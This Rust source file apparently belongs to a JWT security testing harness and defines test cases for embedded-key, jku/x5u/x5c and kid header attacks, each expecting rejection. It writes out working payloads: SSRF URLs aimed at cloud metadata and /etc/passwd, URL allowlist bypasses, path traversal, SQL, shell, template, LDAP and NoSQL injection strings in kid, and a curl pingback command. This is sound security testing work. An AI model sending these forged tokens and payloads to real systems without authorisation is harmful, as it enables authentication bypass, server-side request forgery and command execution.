//! Group D: key-source header parameters (`jwk`, `jku`, `x5u`, `x5c`, `x5t`) and `kid` abuse.
//! Every URL points at the harness's own out-of-band listener on loopback, or is a literal the
//! target must never fetch; the harness itself never requests any of them.

use super::*;
use crate::algorithm::Algorithm;
use crate::base64url;
use crate::dangerous::forge::Forger;
use crate::sign::SigningKey;
use base64::Engine as _;
use serde_json::Value;

pub(super) fn cases() -> Vec<Case> {
    vec![
        case(
            "D01",
            "jwk-embed-rsa",
            "embedded RSA jwk trusted",
            Severity::Critical,
            Mode::BlackBox,
            "reject: keys in the header are never used",
            &["CVE-2018-0114", "Wycheproof tc32"],
            d01,
        ),
        case(
            "D02",
            "jwk-embed-ec-okp-oct",
            "embedded EC, OKP or oct jwk trusted",
            Severity::Critical,
            Mode::BlackBox,
            "reject",
            &["RFC 8725 §3.10"],
            d02,
        ),
        case(
            "D03",
            "jwk-kid-collision",
            "embedded jwk carrying a trusted kid",
            Severity::Critical,
            Mode::BlackBox,
            "reject: a kid match is not a key match",
            &["CVE-2025-24976"],
            d03,
        ),
        case(
            "D04",
            "jku-attacker",
            "remote key set URL trusted",
            Severity::Critical,
            Mode::BlackBox,
            "reject and never fetch",
            &["RFC 8725 §3.10"],
            d04,
        ),
        case(
            "D05",
            "jku-x5u-pingback",
            "blind SSRF through key URLs",
            Severity::High,
            Mode::BlackBox,
            "reject and never fetch",
            &["RFC 8725 §3.10"],
            d05,
        ),
        case(
            "D06",
            "jku-x5u-ssrf-internal",
            "key URLs aimed at internal services",
            Severity::High,
            Mode::BlackBox,
            "reject and never fetch",
            &["CVE-2024-21643"],
            d06,
        ),
        case(
            "D07",
            "jku-allowlist-bypass",
            "URL allowlist parsing tricks",
            Severity::High,
            Mode::BlackBox,
            "reject",
            &["RFC 3986 §3.2"],
            d07,
        ),
        case(
            "D08",
            "jku-shape-abuse",
            "hostile key set documents",
            Severity::Medium,
            Mode::BlackBox,
            "reject and never fetch; a fetch must be bounded in size and time",
            &["RFC 7517 §5"],
            d08,
        ),
        case(
            "D09",
            "x5u-attacker",
            "remote certificate URL trusted",
            Severity::Critical,
            Mode::BlackBox,
            "reject and never fetch",
            &["RFC 7515 §4.1.5"],
            d09,
        ),
        case(
            "D10",
            "x5c-self-signed",
            "self-signed certificate chain trusted",
            Severity::Critical,
            Mode::BlackBox,
            "reject unless the chain validates to a pinned anchor",
            &["RFC 7515 §4.1.6"],
            d10,
        ),
        case(
            "D11",
            "x5c-malformed",
            "malformed certificate chains",
            Severity::Medium,
            Mode::BlackBox,
            "reject, never 5xx",
            &["RFC 7515 §4.1.6"],
            d11,
        ),
        case(
            "D12",
            "x5t-mismatch",
            "thumbprint not matching any key",
            Severity::Medium,
            Mode::IssuerKey,
            "reject",
            &["RFC 7515 §4.1.7-8"],
            d12,
        ),
        case(
            "D13",
            "kid-traversal-devnull",
            "kid used as a file path",
            Severity::Critical,
            Mode::BlackBox,
            "reject",
            &["PortSwigger kid path traversal lab"],
            d13,
        ),
        case(
            "D14",
            "kid-known-file",
            "kid naming a predictable file",
            Severity::High,
            Mode::BlackBox,
            "reject",
            &["RFC 8725 §3.10"],
            d14,
        ),
        case(
            "D15",
            "kid-nul-truncation",
            "NUL truncation in kid lookups",
            Severity::High,
            Mode::BlackBox,
            "reject",
            &["RFC 8725 §3.10"],
            d15,
        ),
        case(
            "D16",
            "kid-sqli",
            "kid in SQL",
            Severity::Critical,
            Mode::BlackBox,
            "reject, no database error, no timing difference",
            &["RFC 8725 §3.10"],
            d16,
        ),
        case(
            "D17",
            "kid-command-injection",
            "kid in a shell",
            Severity::Critical,
            Mode::BlackBox,
            "no delay, never fetch",
            &["RFC 8725 §3.10"],
            d17,
        ),
        case(
            "D18",
            "kid-other-injection",
            "kid in templates, LDAP, NoSQL, headers",
            Severity::High,
            Mode::BlackBox,
            "reject, never 5xx, no reflection",
            &["RFC 8725 §3.10"],
            d18,
        ),
        case(
            "D19",
            "kid-fallback",
            "default-key fallback for odd kids",
            Severity::High,
            Mode::BlackBox,
            "reject: no first-key fallback",
            &["RFC 7515 §4.1.4"],
            d19,
        ),
        case(
            "D20",
            "kid-refetch-amplification",
            "unknown kid forces a key set refetch",
            Severity::Medium,
            Mode::BlackBox,
            "reject; key set fetches stay bounded",
            &["CVE-2026-48524"],
            d20,
        ),
        not_a_token(
            "D21",
            "kid-keyspace-bruteforce",
            "weak per-kid HMAC keys",
            Severity::Medium,
            &["jwt-hack crack --target-field kid"],
            "offline cracking of captured HS tokens: `authprobe crack`",
        ),
    ]
}

const ATTACKER_KID: &str = "authprobe-attacker";

fn json_str(s: &str) -> String {
    serde_json::to_string(s).expect("strings serialize")
}

/// The base header with `alg`, `kid` and extra members set, signed by `key`.
fn header_with(
    f: &Forger<'_>,
    alg: Algorithm,
    kid: Option<&str>,
    extra: &[(&str, String)],
) -> String {
    let mut h = f.header();
    h.set("alg", &json_str(alg.name()));
    match kid {
        Some(kid) => h.set("kid", &json_str(kid)),
        None => h.remove("kid"),
    };
    for (name, value) in extra {
        h.set(name, value);
    }
    h.into_string()
}

fn embed(
    out: &mut Out,
    f: &Forger<'_>,
    label: &str,
    key: &SigningKey,
    alg: Algorithm,
    kid: Option<&str>,
) {
    // For an oct key this embeds the secret itself (D02): that is the attack.
    let jwk = key.public_jwk(kid, Some(alg));
    let header = header_with(f, alg, kid, &[("jwk", Value::Object(jwk).to_string())]);
    out.code(
        format!("{label}, signed with it"),
        f.signed_header(&header, key, alg),
        ForbiddenHeaderParameter,
        Touches::HEADER_SIGNATURE,
    );
}

fn d01(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    embed(
        out,
        &f,
        "attacker RSA jwk with its own kid",
        &input.attacker.rsa,
        Algorithm::RS256,
        Some(ATTACKER_KID),
    );
    embed(
        out,
        &f,
        "attacker RSA jwk without kid",
        &input.attacker.rsa,
        Algorithm::RS256,
        None,
    );
    embed(
        out,
        &f,
        "attacker RSA jwk, PS256",
        &input.attacker.rsa,
        Algorithm::PS256,
        Some(ATTACKER_KID),
    );
}

fn d02(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let a = input.attacker;
    embed(
        out,
        &f,
        "attacker P-256 jwk",
        &a.p256,
        Algorithm::ES256,
        Some(ATTACKER_KID),
    );
    embed(
        out,
        &f,
        "attacker P-384 jwk",
        &a.p384,
        Algorithm::ES384,
        Some(ATTACKER_KID),
    );
    embed(
        out,
        &f,
        "attacker P-521 jwk",
        &a.p521,
        Algorithm::ES512,
        Some(ATTACKER_KID),
    );
    embed(
        out,
        &f,
        "attacker Ed25519 jwk",
        &a.ed25519,
        Algorithm::EdDSA,
        Some(ATTACKER_KID),
    );
    embed(
        out,
        &f,
        "symmetric oct jwk",
        &a.hmac,
        Algorithm::HS256,
        Some(ATTACKER_KID),
    );
}

fn d03(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let alg = input.base_alg();
    let kid = input.base.kid().unwrap_or("kid").to_owned();
    embed(
        out,
        &f,
        "attacker jwk carrying the trusted kid",
        input.attacker.for_alg(alg),
        alg,
        Some(&kid),
    );
}

fn jku_token(input: &ForgeInput<'_>, f: &Forger<'_>, url: &str, member: &str, kid: &str) -> String {
    let alg = input.base_alg();
    let header = header_with(f, alg, Some(kid), &[(member, json_str(url))]);
    f.signed_header(&header, input.attacker.for_alg(alg), alg)
}

fn d04(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for kid in [
        ATTACKER_KID.to_owned(),
        input.base.kid().unwrap_or("kid").to_owned(),
    ] {
        let path = out.oob_path("jwks.json");
        let url = input.oob_url(&path);
        out.code(
            format!("jku at the harness's attacker key set, kid {kid}"),
            jku_token(input, &f, &url, "jku", &kid),
            ForbiddenHeaderParameter,
            Touches::HEADER_SIGNATURE,
        );
        out.with_oob(path);
    }
}

fn d05(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for member in ["jku", "x5u"] {
        let path = out.oob_path("ping");
        let mut h = f.header();
        h.set(member, &json_str(&input.oob_url(&path)));
        out.code(
            format!("{member} at a unique listener URL, original signature"),
            f.with_header(h.as_str()),
            ForbiddenHeaderParameter,
            Touches::HEADER,
        );
        out.with_oob(path);
    }
}

fn d06(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://127.0.0.1:6379/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:25/_HELO",
        "http://[::1]/",
        "http://0.0.0.0/",
    ] {
        let mut h = f.header();
        h.set("jku", &json_str(url));
        out.code(
            format!("jku {url}"),
            f.with_header(h.as_str()),
            ForbiddenHeaderParameter,
            Touches::HEADER,
        );
    }
}

fn d07(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let trusted = input
        .base
        .unverified_claims(16)
        .ok()
        .and_then(|c| c.get("iss").and_then(|v| v.as_str()).map(str::to_owned))
        .unwrap_or_else(|| "http://127.0.0.1:3000".into());
    let host = trusted
        .split("://")
        .nth(1)
        .unwrap_or("127.0.0.1:3000")
        .to_owned();
    let listener = input
        .oob_base
        .split("://")
        .nth(1)
        .unwrap_or("127.0.0.1:9")
        .to_owned();
    for url in [
        format!("http://{host}@{listener}/jwks.json"),
        format!("http://{host}.{listener}/jwks.json"),
        format!("http://{listener}/{host}/jwks.json"),
        format!("http://{host}#@{listener}/jwks.json"),
        format!("http://{host}%0d%0aHost:%20{listener}/jwks.json"),
        format!("{trusted}/api/auth/jwks/../../../redirect?to=http://{listener}/jwks.json"),
    ] {
        let mut h = f.header();
        h.set("jku", &json_str(&url));
        out.code(
            format!("jku {url}"),
            f.with_header(h.as_str()),
            ForbiddenHeaderParameter,
            Touches::HEADER,
        );
    }
}

/// Served-document shapes of the listener (see deployment::oob).
pub(crate) const JKU_SHAPES: [&str; 7] = [
    "single-jwk",
    "empty-keys",
    "duplicate-kids",
    "use-enc",
    "oversize",
    "tarpit",
    "redirect",
];

fn d08(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let kid = input.base.kid().unwrap_or("kid").to_owned();
    for shape in JKU_SHAPES {
        let path = out.oob_path(shape);
        let url = input.oob_url(&path);
        out.code(
            format!("jku serving a hostile document: {shape}"),
            jku_token(input, &f, &url, "jku", &kid),
            ForbiddenHeaderParameter,
            Touches::HEADER_SIGNATURE,
        );
        out.with_oob(path);
    }
}

fn d09(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let path = out.oob_path("cert.pem");
    let header = header_with(
        &f,
        Algorithm::ES256,
        Some(ATTACKER_KID),
        &[("x5u", json_str(&input.oob_url(&path)))],
    );
    out.code(
        "x5u at the harness's attacker certificate, ES256 signed with its key",
        f.signed_header(&header, &input.attacker.p256, Algorithm::ES256),
        ForbiddenHeaderParameter,
        Touches::HEADER_SIGNATURE,
    );
    out.with_oob(path);
}

fn std_b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn d10(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let Some(cert) = &input.attacker.cert else {
        return;
    };
    for kid in [Some(ATTACKER_KID), None] {
        let header = header_with(
            &f,
            Algorithm::ES256,
            kid,
            &[("x5c", format!("[{}]", json_str(&std_b64(&cert.der))))],
        );
        out.code(
            format!("x5c with a self-signed certificate, ES256 signed with its key, kid {kid:?}"),
            f.signed_header(&header, &input.attacker.p256, Algorithm::ES256),
            ForbiddenHeaderParameter,
            Touches::HEADER_SIGNATURE,
        );
    }
}

fn d11(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    let der = input
        .attacker
        .cert
        .as_ref()
        .map(|c| c.der.clone())
        .unwrap_or_else(|| vec![0x30, 0x00]);
    let variants: Vec<(&str, String, ErrorCode)> = vec![
        (
            "garbage entries",
            r#"["garbage","!!"]"#.into(),
            ForbiddenHeaderParameter,
        ),
        (
            "base64url instead of base64",
            format!("[{}]", json_str(&base64url::encode(&der))),
            ForbiddenHeaderParameter,
        ),
        (
            "two bogus certificates",
            r#"["MAA=","MAA="]"#.into(),
            ForbiddenHeaderParameter,
        ),
        (
            "not an array",
            json_str(&std_b64(&der)),
            ForbiddenHeaderParameter,
        ),
        (
            "a chain of 1,000 certificates (over the size cap)",
            format!("[{}]", vec![json_str(&std_b64(&der)); 1000].join(",")),
            MalformedToken,
        ),
    ];
    for (label, value, code) in variants {
        let mut h = f.header();
        h.set("x5c", &value);
        out.code(
            format!("x5c {label}"),
            f.with_header(h.as_str()),
            code,
            Touches::HEADER,
        );
    }
}

fn d12(input: &ForgeInput<'_>, out: &mut Out) {
    let Some(key) = input.issuer_key else { return };
    let f = Forger::new(input.base);
    for member in ["x5t", "x5t#S256"] {
        let mut h = f.header();
        h.set(member, &json_str(&base64url::encode([0xABu8; 32])));
        out.code(
            format!("{member} matching no key, signed by the issuer"),
            f.signed_header(h.as_str(), key, input.base_alg()),
            ForbiddenHeaderParameter,
            Touches::HEADER_SIGNATURE,
        );
    }
}

/// `kid` values sent twice: HS256 keyed with `secret` (a file-content guess), and the original
/// algorithm with the original signature.
fn kid_pair(input: &ForgeInput<'_>, out: &mut Out, label: &str, kid: &str, secret: &[u8]) {
    let f = Forger::new(input.base);
    let header = header_with(&f, Algorithm::HS256, Some(kid), &[]);
    out.push(
        format!(
            "kid {label}, HS256 keyed with {:?}",
            String::from_utf8_lossy(secret)
        ),
        f.signed_header(&header, &SigningKey::hmac(secret), Algorithm::HS256),
        input.under_alg("HS256", UnknownKeyId),
        Touches::HEADER_SIGNATURE,
    );
    let mut h = f.header();
    h.set("kid", &json_str(kid));
    out.code(
        format!("kid {label}, original signature"),
        f.with_header(h.as_str()),
        UnknownKeyId,
        Touches::HEADER,
    );
}

fn d13(input: &ForgeInput<'_>, out: &mut Out) {
    for kid in [
        "../../../../../../dev/null",
        "/dev/null",
        "..\\..\\..\\..\\dev\\null",
        "file:///dev/null",
    ] {
        kid_pair(input, out, kid, kid, b"");
    }
}

fn d14(input: &ForgeInput<'_>, out: &mut Out) {
    kid_pair(
        input,
        out,
        "/proc/sys/kernel/randomize_va_space",
        "/proc/sys/kernel/randomize_va_space",
        b"2\n",
    );
    kid_pair(
        input,
        out,
        "../../../../etc/hostname",
        "../../../../etc/hostname",
        b"localhost\n",
    );
}

fn d15(input: &ForgeInput<'_>, out: &mut Out) {
    let real = input.base.kid().unwrap_or("kid").to_owned();
    kid_pair(
        input,
        out,
        "real kid + NUL + traversal",
        &format!("{real}\u{0}../../../dev/null"),
        b"",
    );
    kid_pair(
        input,
        out,
        "real kid + %00 + traversal",
        &format!("{real}%00../../../dev/null"),
        b"",
    );
}

fn d16(input: &ForgeInput<'_>, out: &mut Out) {
    for (kid, secret) in [
        ("x' UNION SELECT '1';--", &b"1"[..]),
        ("' UNION SELECT 'secret-key' --", b"secret-key"),
        ("' OR '1'='1", b""),
    ] {
        kid_pair(input, out, kid, kid, secret);
    }
}

fn d17(input: &ForgeInput<'_>, out: &mut Out) {
    let path = out.oob_path("cmd");
    let curl = format!("| curl {}", input.oob_url(&path));
    for kid in [
        "|sleep 10",
        "key; sleep 5",
        "$(sleep 5)",
        "`id`",
        curl.as_str(),
    ] {
        let f = Forger::new(input.base);
        let mut h = f.header();
        h.set("kid", &json_str(kid));
        out.code(
            format!("kid {kid}"),
            f.with_header(h.as_str()),
            UnknownKeyId,
            Touches::HEADER,
        );
    }
    out.with_oob(path);
}

fn d18(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for (kid, code) in [
        (json_str("${7*7}"), UnknownKeyId),
        (json_str("{{7*7}}"), UnknownKeyId),
        (json_str("#{7*7}"), UnknownKeyId),
        (json_str("<%= 7*7 %>"), UnknownKeyId),
        (json_str("*)(uid=*))(|(uid=*"), UnknownKeyId),
        (json_str("key\r\nX-Injected: 1"), UnknownKeyId),
        (r#"{"$ne":null}"#.to_owned(), MalformedToken),
        (r#"{"$regex":".*"}"#.to_owned(), MalformedToken),
    ] {
        let mut h = f.header();
        h.set("kid", &kid);
        out.code(
            format!("kid {kid}"),
            f.with_header(h.as_str()),
            code,
            Touches::HEADER,
        );
    }
}

fn d19(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for (value, code) in [
        ("\"\"", UnknownKeyId),
        ("null", MalformedToken),
        ("0", MalformedToken),
        ("\"0\"", UnknownKeyId),
        ("\"*\"", UnknownKeyId),
        ("\"default\"", UnknownKeyId),
        ("[]", MalformedToken),
    ] {
        let mut h = f.header();
        h.set("kid", value);
        out.code(
            format!("kid {value}, original signature"),
            f.with_header(h.as_str()),
            code,
            Touches::HEADER,
        );
    }
    let mut h = f.header();
    h.remove("kid");
    out.code(
        "kid absent, original signature",
        f.with_header(h.as_str()),
        UnknownKeyId,
        Touches::HEADER,
    );
    let header = header_with(&f, Algorithm::HS256, Some(""), &[]);
    out.push(
        "kid \"\", HS256 with an empty key",
        f.signed_header(&header, &SigningKey::hmac(b""), Algorithm::HS256),
        input.under_alg("HS256", UnknownKeyId),
        Touches::HEADER_SIGNATURE,
    );
    for jwk in input.target_keys {
        let Some(kid) = jwk.get("kid").and_then(|v| v.as_str()) else {
            continue;
        };
        let header = header_with(&f, Algorithm::HS256, Some(kid), &[]);
        out.push(
            format!("kid {kid} of a published key, HS256 with an empty key"),
            f.signed_header(&header, &SigningKey::hmac(b""), Algorithm::HS256),
            input.under_alg("HS256", InvalidSignature),
            Touches::HEADER_SIGNATURE,
        );
    }
}

fn d20(input: &ForgeInput<'_>, out: &mut Out) {
    let f = Forger::new(input.base);
    for i in 0..25 {
        let mut h = f.header();
        h.set("kid", &json_str(&format!("authprobe-unseen-kid-{i:03}")));
        out.code(
            format!("unseen kid #{i}"),
            f.with_header(h.as_str()),
            UnknownKeyId,
            Touches::HEADER,
        );
    }
}
